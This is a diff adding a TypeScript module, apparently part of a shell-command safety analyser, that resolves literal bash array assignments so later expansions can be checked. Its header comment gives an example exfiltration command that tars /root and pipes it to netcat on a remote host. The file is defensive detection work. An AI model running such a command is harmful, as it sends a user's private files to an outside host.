@@ -1,0 +1,121 @@
+// Arrays the text fills with literal elements (round 27, docs/floor.md "Round 27"): `x=(/ /root)`,
+// `declare -a x=(..)`, `mapfile -t a <<< /root`, `readarray`, `read -a a <<< '/ /root'`. Each element is
+// a literal variable of the reading (`x[1]`; `$x` is element 0), so `tar c ${x[1]} | nc h 80` is read
+// as the home it sends; `${x[@]}` is read once per element (elementSets).
+
+import type { SimpleCommand } from './shell-parse.js';
+import { ARRAY_READERS } from './shell-vocabulary.js';
+
+/** Elements read one by one as `${x[@]}` at most (each is one more reading of a list). */
+const MAX_ELEMENT_READINGS = 4;
+/** Commands looked past for an array's group (a substitution inside it files its commands first). */
+const MAX_LOOK = 8;
+
+/** Where a text's arrays go: its literal variables, those spoiled, and a map per element read as `[@]`. */
+export interface ArrayState {
+  vars: Map<string, string>;
+  spoiled: Set<string>;
+  elements?: Map<string, string>[];
+}
+
+/**
+ * Reads command `i` of `cmds` as an array assignment into `st`; false when it is none (its assignments
+ * are then collectAssignments'). An element the text computes spoils the array, as a computed value does.
+ */
+export function arrayAssignment(cmds: readonly SimpleCommand[], i: number, st: ArrayState): boolean {
+  const cmd = cmds[i] as SimpleCommand;
+  const words = cmd.words;
+  const first = words[0] ?? '';
+  if (cmd.array) {
+    const last = words[words.length - 1] as string;
+    const name = last.slice(0, last.indexOf('='));
+    let group: SimpleCommand | undefined;
+    for (let k = i + 1; k < cmds.length && k <= i + MAX_LOOK; k++)
+      if ((cmds[k] as SimpleCommand).list === cmd.list) {
+        group = cmds[k];
+        break;
+      }
+    // `x+=(..)` appends, `x=($(..))` computes: neither is one literal array.
+    if (last.includes('+=') || group === undefined || group.shown.some(computed)) spoil(st, name);
+    else give(st, name, group.words);
+    return true;
+  }
+  // mapfile and `read -a` fill an array the text shows only from a here-string or here-document.
+  if (cmd.stdin.length === 0) return false;
+  if (ARRAY_READERS.has(first)) {
+    const name = operandsOf(words, MAPFILE_VALUED)[0] ?? 'MAPFILE';
+    const input = cmd.stdin.length === 1 ? literalInput(cmd.stdin[0] as string) : undefined;
+    // `-d X` splits elsewhere than lines, input from a pipe or file is not in the text.
+    if (input === undefined || words.some((w) => w.startsWith('-d'))) spoil(st, name);
+    else give(st, name, lines(input));
+    return true;
+  }
+  if (first === 'read') {
+    const at = words.indexOf('-a');
+    const name = at > 0 ? words[at + 1] : undefined;
+    if (name === undefined) return false;
+    const input = cmd.stdin.length === 1 ? literalInput(cmd.stdin[0] as string) : undefined;
+    const fields =
+      input === undefined
+        ? undefined
+        : lines(input)[0]
+            ?.split(/[ \t]+/)
+            .filter((f) => f !== '');
+    if (fields === undefined) spoil(st, name);
+    else give(st, name, fields);
+    return true;
+  }
+  return false;
+}
+
+/** A here-string or here-document body the text shows whole (a substitution in it is not). */
+const literalInput = (t: string): string | undefined => (computed(t) ? undefined : t);
+const computed = (shown: string): boolean => shown.includes('$') || shown.includes('`');
+const lines = (t: string): string[] => t.replace(/\n$/, '').split('\n');
+
+/** mapfile's options that take a value. */
+const MAPFILE_VALUED = /^-[nOsucC]$/;
+
+/** The operands of a builtin (its options and their values skipped). */
+function operandsOf(words: readonly string[], valued: RegExp): string[] {
+  const out: string[] = [];
+  for (let k = 1; k < words.length; k++) {
+    const w = words[k] as string;
+    if (w === '-d') k++;
+    else if (valued.test(w)) k++;
+    else if (!w.startsWith('-')) out.push(w);
+  }
+  return out;
+}
+
+function give(st: ArrayState, name: string, elements: readonly string[]): void {
+  if (st.spoiled.has(name)) return;
+  const old = st.vars.get(`${name}[@]`);
+  const all = elements.join(' ');
+  // Set twice to different elements: not one the text shows.
+  if ((old !== undefined && old !== all) || (old === undefined && st.vars.has(name))) {
+    spoil(st, name);
+    return;
+  }
+  st.vars.set(name, elements[0] ?? '');
+  elements.forEach((e, k) => {
+    st.vars.set(`${name}[${k}]`, e);
+  });
+  st.vars.set(`${name}[@]`, all);
+  st.vars.set(`${name}[*]`, all);
+  for (const e of elements) {
+    st.elements ??= [];
+    if (st.elements.length >= MAX_ELEMENT_READINGS) break;
+    st.elements.push(
+      new Map([
+        [`${name}[@]`, e],
+        [`${name}[*]`, e],
+      ]),
+    );
+  }
+}
+
+function spoil(st: ArrayState, name: string): void {
+  st.spoiled.add(name);
+  for (const key of [...st.vars.keys()]) if (key === name || key.startsWith(`${name}[`)) st.vars.delete(key);
+}
